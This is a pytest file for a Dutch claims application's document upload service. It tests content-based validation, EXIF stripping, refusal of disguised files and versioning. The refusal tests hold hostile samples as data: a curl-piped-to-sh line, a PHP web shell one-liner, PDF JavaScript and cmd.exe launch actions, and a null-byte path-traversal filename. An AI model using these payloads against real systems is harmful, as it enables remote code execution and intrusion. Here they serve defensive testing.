"""Uploads are checked by content, not by name; refused files leave nothing behind (issue 4, item 8)."""

import datetime as dt
import hashlib
import io
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, Image

from schadeloket.audit.models import AuditEvent
from schadeloket.cases.services import open_case
from schadeloket.documents import content
from schadeloket.documents import services as document_services
from schadeloket.documents.models import Document
from schadeloket.documents.selectors import case_documents, document_history, latest_documents
from schadeloket.documents.services import DocumentError, upload_document
from tests.factories import BuildingFactory, PersonFactory, UserFactory

pytestmark = pytest.mark.django_db
WHAT_TO_SEND = "Stuur een foto (JPG of PNG) of een PDF van hoogstens 20 MB."


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path) -> Path:
    root = tmp_path / "media"
    root.mkdir()
    settings.MEDIA_ROOT = root
    return root


@pytest.fixture
def handler():
    return UserFactory(roles=["Behandelaar"])


@pytest.fixture
def case(handler):
    return open_case(
        scheme_code="MAATWERK",
        building=BuildingFactory(),
        applicant=PersonFactory(),
        received_on=dt.date(2025, 3, 3),
        actor=handler,
    )


def files_under(root: Path) -> list[Path]:
    return [path for path in root.rglob("*") if path.is_file()]


def upload(name: str, data: bytes):
    return SimpleUploadedFile(name, data, content_type="image/jpeg")  # the browser's word: never trusted


def jpeg(size=(64, 48), *, exif: Image.Exif | None = None, comment: bytes | None = None) -> bytes:
    out = io.BytesIO()
    options = {"exif": exif} if exif is not None else {}
    if comment is not None:
        options["comment"] = comment
    Image.new("RGB", size, (180, 60, 40)).save(out, format="JPEG", **options)
    return out.getvalue()


def png(size=(32, 32)) -> bytes:
    out = io.BytesIO()
    Image.new("RGBA", size, (10, 120, 200, 255)).save(out, format="PNG")
    return out.getvalue()


def exif_with_gps() -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Telefoonmerk"
    exif[ExifTags.Base.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (53.0, 19.0, 57.0),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (6.0, 44.0, 44.0),
    }
    return exif


def pdf(body: bytes = b"") -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        + body
        + b"\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def assert_refused_and_nothing_stored(case, media_root, name, data, *, says):
    events_before = AuditEvent.objects.count()
    with pytest.raises(DocumentError) as refused:
        upload_document(case, upload(name, data), kind="photo", actor=None)
    message = str(refused.value)
    assert says in message
    assert message.endswith(WHAT_TO_SEND)
    assert Document.objects.count() == 0
    assert files_under(media_root) == []
    assert AuditEvent.objects.count() == events_before
    return message


# --- accepted files -----------------------------------------------------------------------------


def test_a_jpeg_is_stored_re_encoded_with_its_checksum_and_an_audit_event(case, handler, media_root):
    document = upload_document(case, upload("scheur.jpg", jpeg()), kind="photo", actor=handler)
    stored = Path(document.file.path).read_bytes()
    assert document.sha256 == hashlib.sha256(stored).hexdigest()
    assert document.size == len(stored)
    assert document.content_type == "image/jpeg"
    assert document.version == 1 and document.supersedes is None
    assert document.uploaded_by == handler
    with Image.open(io.BytesIO(stored)) as image:
        assert image.format == "JPEG" and image.size == (64, 48)
    event = AuditEvent.objects.get(action="document_added")
    assert (event.object_type, event.object_id) == ("cases.case", case.reference)
    assert "scheur" not in event.reason  # filenames may carry personal data


def test_gps_and_other_exif_are_gone_after_upload(case, handler):
    original = jpeg(exif=exif_with_gps())
    with Image.open(io.BytesIO(original)) as image:  # the test's own premise: the GPS is really there
        assert image.getexif().get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] == (53.0, 19.0, 57.0)
    document = upload_document(case, upload("met-gps.jpg", original), kind="photo", actor=handler)
    stored = Path(document.file.path).read_bytes()
    with Image.open(io.BytesIO(stored)) as image:
        assert "exif" not in image.info
        assert dict(image.getexif()) == {}
        assert image.getexif().get_ifd(ExifTags.IFD.GPSInfo) == {}
    assert b"Telefoonmerk" not in stored and b"Exif\x00\x00" not in stored


def test_the_exif_orientation_is_applied_before_it_is_dropped(case, handler):
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6  # taken with the phone on its side
    document = upload_document(case, upload("staand.jpg", jpeg((40, 20), exif=exif)), kind="photo", actor=handler)
    with Image.open(document.file.path) as image:
        assert image.size == (20, 40)


def test_a_png_stays_a_png(case, handler):
    document = upload_document(case, upload("plattegrond.png", png()), kind="other", actor=handler)
    assert document.content_type == "image/png" and document.file.name.endswith(".png")
    with Image.open(document.file.path) as image:
        assert image.format == "PNG" and image.mode == "RGBA"


def test_a_clean_pdf_is_stored_as_sent(case, handler):
    data = pdf(b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj")
    document = upload_document(case, SimpleUploadedFile("offerte.pdf", data), kind="quote", actor=handler)
    assert Path(document.file.path).read_bytes() == data
    assert document.sha256 == hashlib.sha256(data).hexdigest()
    assert document.content_type == "application/pdf"


def test_the_senders_filename_is_shown_but_never_used_as_a_path(case, handler):
    document = upload_document(case, upload("../../etc/pass\x00wd.jpg", jpeg()), kind="photo", actor=handler)
    assert document.original_filename == "passwd.jpg"
    assert document.file.name.startswith(f"documents/{case.public_id}/")
    assert "passwd" not in document.file.name and ".." not in document.file.name


# --- refused files --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "says"),
    [
        ("foto.jpg", b"#!/bin/sh\ncurl http://example.invalid | sh\n", "programmacode (een script)"),
        ("foto.jpg", b"<html><script>alert(1)</script></html>", "programmacode (een script)"),
        ("foto.jpg", b"<?php system($_GET['c']); ?>", "programmacode (een script)"),
        ("foto.jpg", b"MZ\x90\x00\x03" + b"\x00" * 100, "Dit is een programma"),
        ("foto.jpg", b"\x7fELF\x02\x01\x01" + b"\x00" * 100, "Dit is een programma"),
        ("foto.jpg", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 50, "ingepakt bestand"),
        ("foto.jpg", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 50, "ingepakt bestand"),
        ("foto.jpg", b"\x1f\x8b\x08\x00" + b"\x00" * 50, "ingepakt bestand"),
        ("foto.gif", b"GIF89a\x01\x00\x01\x00" + b"\x00" * 30, "Dit soort afbeelding"),
        ("foto.jpg", b"gewoon wat tekst", "niet als foto of PDF"),
    ],
)
def test_files_that_are_not_what_their_name_says_are_refused(case, media_root, name, data, says):
    assert_refused_and_nothing_stored(case, media_root, name, data, says=says)


def test_a_zip_renamed_to_pdf_is_refused(case, media_root):
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("factuur.pdf", pdf())
    assert_refused_and_nothing_stored(case, media_root, "factuur.pdf", archive.getvalue(), says="ingepakt bestand")


@pytest.mark.parametrize(
    ("body", "says"),
    [
        (b"<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>", "programmacode (JavaScript)"),
        (b"<< /AA << /O << /S /J#61vaScript /J#53 (app.alert(1)) >> >> >>", "programmacode (JavaScript)"),
        (b"<< /OpenAction << /S /Launch /F (cmd.exe) >> >>", "een programma te starten"),
        (b"<< /Names << /EmbeddedFiles 5 0 R >> >>", "een ander bestand als bijlage"),
        (b"<< /Type /EmbeddedFile /Length 3 >>\nstream\nabc\nendstream", "een ander bestand als bijlage"),
    ],
)
def test_a_pdf_with_active_content_is_refused_and_told_why(case, media_root, body, says):
    message = assert_refused_and_nothing_stored(case, media_root, "brief.pdf", pdf(body), says=says)
    assert "Afdrukken naar PDF" in message


def test_javascript_hidden_in_a_compressed_object_stream_is_found(case, media_root):
    hidden = zlib.compress(b"3 0 << /S /JavaScript /JS (app.alert(1)) >>")
    body = b"4 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n" + hidden + b"\nendstream\nendobj"
    assert_refused_and_nothing_stored(case, media_root, "brief.pdf", pdf(body), says="programmacode (JavaScript)")


def test_a_pdf_without_its_end_is_refused(case, media_root):
    assert_refused_and_nothing_stored(case, media_root, "rapport.pdf", pdf()[:-7], says="het einde ontbreekt")


def test_a_pdf_with_a_zip_inside_is_refused(case, media_root):
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("run.js", "WScript.Echo(1)")
    data = pdf(b"% " + archive.getvalue())
    assert_refused_and_nothing_stored(case, media_root, "rapport.pdf", data, says="ander bestand verstopt")


def test_a_png_with_a_zip_appended_is_a_polyglot_and_refused(case, media_root):
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("payload.html", "<b>hallo</b>")
    data = png() + archive.getvalue()
    with Image.open(io.BytesIO(data)) as image:  # premise: Pillow alone would take it as a picture
        image.load()
    assert_refused_and_nothing_stored(case, media_root, "foto.png", data, says="ander bestand verstopt")


@pytest.mark.parametrize("payload", [pdf(), b"<script>alert(1)</script>", b"<?php echo 1; ?>"])
def test_an_image_with_a_pdf_or_script_behind_it_is_refused(case, media_root, payload):
    assert_refused_and_nothing_stored(case, media_root, "foto.jpg", jpeg() + payload, says="ander bestand verstopt")


def test_a_script_in_a_jpeg_comment_is_refused(case, media_root):
    data = jpeg(comment=b"<?php system($_GET['c']); ?>")
    assert_refused_and_nothing_stored(case, media_root, "foto.jpg", data, says="ander bestand verstopt")


@pytest.mark.parametrize(
    "data",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b'\xef\xbb\xbf<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>',
    ],
)
def test_svg_is_refused(case, media_root, data):
    assert_refused_and_nothing_stored(case, media_root, "tekening.png", data, says="SVG-tekening")


def test_a_file_over_20_mb_is_refused(case, media_root):
    data = b"%PDF-1.7\n" + b"0" * content.MAX_UPLOAD_BYTES + b"\n%%EOF\n"
    assert_refused_and_nothing_stored(case, media_root, "groot.pdf", data, says="groter dan 20 MB")


def test_an_empty_file_is_refused(case, media_root):
    assert_refused_and_nothing_stored(case, media_root, "leeg.jpg", b"", says="Het bestand is leeg")


@pytest.mark.parametrize(
    "data",
    [
        jpeg((200, 200))[:300],  # cut off halfway
        b"\xff\xd8\xff\xe0" + b"\x13\x37" * 200,  # starts like a JPEG, then nonsense
        png()[:40],
    ],
)
def test_a_corrupt_image_is_refused(case, media_root, data):
    assert_refused_and_nothing_stored(case, media_root, "kapot.jpg", data, says="beschadigd of niet compleet")


def test_a_decompression_bomb_is_refused_before_decoding(case, media_root):
    out = io.BytesIO()
    Image.new("1", (8000, 8000)).save(out, format="PNG")  # 64 million pixels in a few kilobytes
    assert len(out.getvalue()) < 100_000
    assert_refused_and_nothing_stored(case, media_root, "bom.png", out.getvalue(), says="miljoen beeldpunten")


def test_pillows_own_bomb_guard_is_caught_too(case, media_root, monkeypatch):
    monkeypatch.setattr(content, "MAX_IMAGE_PIXELS", 10**12)  # our limit out of the way
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 1000)  # Pillow's: 64 × 48 is above it
    assert_refused_and_nothing_stored(case, media_root, "bom.jpg", jpeg(), says="miljoen beeldpunten")


def test_heic_is_refused_with_advice_when_pillow_cannot_read_it(case, media_root):
    Image.init()
    if "HEIF" in Image.OPEN:
        pytest.skip("a HEIF plugin is installed here")
    data = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64
    assert_refused_and_nothing_stored(case, media_root, "IMG_0001.HEIC", data, says="HEIC")


def test_an_unknown_kind_is_refused(case, media_root):
    with pytest.raises(DocumentError, match="Kies wat voor document dit is"):
        upload_document(case, upload("scheur.jpg", jpeg()), kind="selfie", actor=None)
    assert files_under(media_root) == []


def test_when_the_database_write_fails_the_file_is_removed_again(case, handler, media_root, monkeypatch):
    def broken_audit(**kwargs):
        raise RuntimeError("audit trail unavailable")

    monkeypatch.setattr(document_services, "record_event", broken_audit)
    with pytest.raises(RuntimeError):
        upload_document(case, upload("scheur.jpg", jpeg()), kind="photo", actor=handler)
    assert Document.objects.count() == 0
    assert files_under(media_root) == []


# --- versions -------------------------------------------------------------------------------------


def test_a_new_version_keeps_the_old_one(case, handler, media_root):
    first = upload_document(case, SimpleUploadedFile("offerte.pdf", pdf(b"% versie 1")), kind="quote", actor=handler)
    second = upload_document(
        case, SimpleUploadedFile("offerte-2.pdf", pdf(b"% versie 2")), kind="quote", actor=handler, replaces=first
    )
    assert (second.version, second.series, second.supersedes) == (2, first.series, first)
    first.refresh_from_db()
    assert Path(first.file.path).read_bytes() == pdf(b"% versie 1")  # still there, unchanged
    assert Path(second.file.path).read_bytes() == pdf(b"% versie 2")
    assert len(files_under(media_root)) == 2
    assert document_history(second) == [second, first]

    photo = upload_document(case, upload("scheur.jpg", jpeg()), kind="photo", actor=handler)
    assert list(latest_documents(case)) == [photo, second]
    groups = case_documents(case)
    assert [(g.current, g.earlier) for g in groups] == [(photo, ()), (second, (first,))]


def test_only_the_newest_version_can_be_replaced(case, handler, media_root):
    first = upload_document(case, SimpleUploadedFile("offerte.pdf", pdf()), kind="quote", actor=handler)
    upload_document(case, SimpleUploadedFile("offerte.pdf", pdf()), kind="quote", actor=handler, replaces=first)
    with pytest.raises(DocumentError, match="al een nieuwere versie"):
        upload_document(case, SimpleUploadedFile("offerte.pdf", pdf()), kind="quote", actor=handler, replaces=first)
    assert Document.objects.count() == 2
    assert len(files_under(media_root)) == 2


def test_a_document_of_another_case_cannot_be_replaced(case, handler, media_root):
    other = open_case(
        scheme_code="MAATWERK",
        building=BuildingFactory(),
        applicant=PersonFactory(),
        received_on=dt.date(2025, 3, 3),
        actor=handler,
    )
    theirs = upload_document(other, SimpleUploadedFile("offerte.pdf", pdf()), kind="quote", actor=handler)
    with pytest.raises(DocumentError, match="andere zaak"):
        upload_document(case, SimpleUploadedFile("offerte.pdf", pdf()), kind="quote", actor=handler, replaces=theirs)
    assert Document.objects.filter(case=case).count() == 0
    assert len(files_under(media_root)) == 1
